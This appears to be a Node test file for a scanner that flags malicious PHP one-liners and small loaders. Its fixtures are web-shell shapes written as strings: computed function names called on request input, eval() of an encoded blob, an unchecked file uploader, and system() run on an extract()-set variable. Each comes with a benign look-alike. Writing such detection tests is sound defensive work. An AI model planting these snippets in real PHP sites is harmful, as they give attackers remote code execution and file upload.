/**
 * PHP mechanisms found missing on one-liners and small loaders: request data handed to a
 * function whose name the file computes, eval() of a payload run through the file's own
 * decoder, output-buffer capture, uploaders that keep the client's file name. Every fixture is
 * written for this test and is inert text; each positive has a benign look-alike.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons } from './helpers.js';

const TINY = 'tiny script hands request input to a function whose name it computes at runtime (one-line loader)';
const UPLOADER = 'small script stores an upload under the client-chosen name with no type or extension check (uploader)';

const mal = (name: string, code: string): string[] => {
  const f = findingOf(name, code);
  assert.equal(f?.verdict, 'malicious', `${name}: ${reasons(f).join('; ')}`);
  return reasons(f);
};

test('php recall: a tiny script calls a computed function name with request input', () => {
  // strtr() and md5() slices are not folded: the name stays unknown, the shape does not
  assert.ok(mal('a.php', `<?php\n$n = strtr('qwzrty', 'wzrt', 'bcde');\n$n($_POST['v']);\n`).includes(TINY));
  assert.ok(mal('b.php', `<?php\n$h = md5('k');\n$f = substr($h, 3, 1) . chr(120) . substr($h, 9, 2);\n$f($_GET['q']);\n`).includes(TINY));
  // a nested array slot holding the callee
  assert.ok(mal('c.php', `<?php\n$t['k'] = $cfg;\n$list[] = $t;\n$list[0]['k']($_REQUEST['z']);\n`).includes(TINY));
});

test('php recall: a tiny script hands request input to a callback it never names', () => {
  // $cb is never assigned: under register_globals the client names it
  assert.ok(mal('d.php', `<?php\n$in = array($_POST['p']);\narray_udiff($in, array(2), $cb);\n`).includes(TINY));
  assert.ok(mal('e.php', `<?php\n$k = substr(__FILE__, -6, -4);\n$g = $k . 'x';\nregister_tick_function($g, $_REQUEST['c']);\n`).includes(TINY));
});

test('php recall: look-alikes of the dynamic call stay below malicious', () => {
  // a fixed callback named in plain text
  assert.equal(findingOf('f.php', `<?php\n$fn = 'htmlspecialchars';\necho $fn($_GET['q']);\n`), undefined);
  // a closure held in a variable
  assert.equal(findingOf('g.php', `<?php\n$clean = function ($s) { return trim($s); };\necho $clean($_POST['name']);\n`), undefined);
  // a plugin hook in a larger file: the weaker, non-tiny reason at most
  const pad = `// ${'plugin loader notes '.repeat(60)}\n`;
  const big = findingOf('h.php', `<?php\n${pad}$hook = $registry->get('filter');\n$out = $hook($_GET['q']);\necho $out;\n`);
  assert.notEqual(big?.verdict, 'malicious');
  assert.ok(!reasons(big).includes(TINY));
});

test("php recall: eval() of a blob held in a variable and decoded by the file's own table decoder", () => {
  const blob = 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODkrLw'.repeat(2);
  const code = `<?php
function unmix($s, $t) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= isset($t[$s[$i]]) ? $t[$s[$i]] : $s[$i]; } $d = "ba" . "se" . "64_" . "decode"; return $d($o); }
$map = array("A" => "B", "B" => "A");
$payload = "${blob.slice(0, 90)}" . "${blob.slice(90)}";
eval(unmix($payload, $map));
`;
  assert.ok(mal('i.php', code).includes("eval() of a long literal decoded by the file's own function unmix()"));
  // the same helper formatting a short template that is printed, not run
  const ok = `<?php
function fmt($s, $t) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= isset($t[$s[$i]]) ? $t[$s[$i]] : $s[$i]; } return $o; }
$tpl = "Hello NAME";
echo fmt($tpl, array("N" => "n"));
`;
  assert.equal(findingOf('j.php', ok), undefined);
});

test('php recall: request input captured by an output buffer and evaluated', () => {
  const code = `<?php\n$got = "";\nob_start(function ($c, $d) { global $got; $got = $c; });\necho $_REQUEST['k'];\nob_end_flush();\nassert($got);\n`;
  assert.ok(mal('k.php', code).includes('tiny script evaluating a computed value (one-line loader)'));
  // buffering output to cache a page is ordinary
  assert.equal(findingOf('l.php', `<?php\nob_start();\necho htmlspecialchars($_GET['q']);\n$page = ob_get_clean();\nfile_put_contents('cache/page.html', $page);\n`), undefined);
});

test('php recall: a small uploader that keeps the client file name unchecked', () => {
  const up = `<?php\nif (isset($_FILES['f'])) {\n  $to = $_POST['dir'] . '/' . $_FILES['f']['name'];\n  move_uploaded_file($_FILES['f']['tmp_name'], $to);\n  echo 'done';\n}\n?><form method="post" enctype="multipart/form-data"><input type="file" name="f"><input name="dir"><input type="submit"></form>`;
  assert.ok(mal('m.php', up).includes(UPLOADER));
  const cp = `<?php\n$n = $_FILES['doc']['name'];\nif (copy($_FILES['doc']['tmp_name'], $n)) echo 'ok';\n`;
  assert.ok(mal('n.php', cp).includes(UPLOADER));
  // an avatar upload that checks the extension against a list is an application feature
  const ok = `<?php\n$name = $_FILES['avatar']['name'];\n$ext = strtolower(pathinfo($name, PATHINFO_EXTENSION));\nif (in_array($ext, array('jpg', 'png'))) {\n  move_uploaded_file($_FILES['avatar']['tmp_name'], 'avatars/' . $name);\n}\n`;
  const f = findingOf('o.php', ok);
  assert.notEqual(f?.verdict, 'malicious');
  assert.ok(!reasons(f).includes(UPLOADER));
});

test('php recall: extract() of the request feeds a command variable the file never sets', () => {
  const old = `<?php\nif (!empty($HTTP_POST_VARS)) extract($HTTP_POST_VARS);\n$here = exec('pwd');\necho "<pre>";\nsystem($cmdline);\necho "</pre>$here";\n`;
  const r = mal('p.php', old);
  assert.ok(r.includes('system() runs a variable that is never assigned (request variable set by extract() $cmdline)'), r.join('; '));
  // extract() of a database row: the variable may come from the row
  const ok = `<?php\n$row = $db->fetch($id);\nextract($row);\nsystem($tool_path);\n`;
  assert.notEqual(findingOf('q.php', ok)?.verdict, 'malicious');
  // extract() of the request, but the command is fixed and assigned
  const ok2 = `<?php\nextract($_POST);\n$cmd = 'uptime';\necho shell_exec($cmd);\n`;
  assert.ok(!reasons(findingOf('r.php', ok2)).some((x) => x.includes('never assigned')));
});
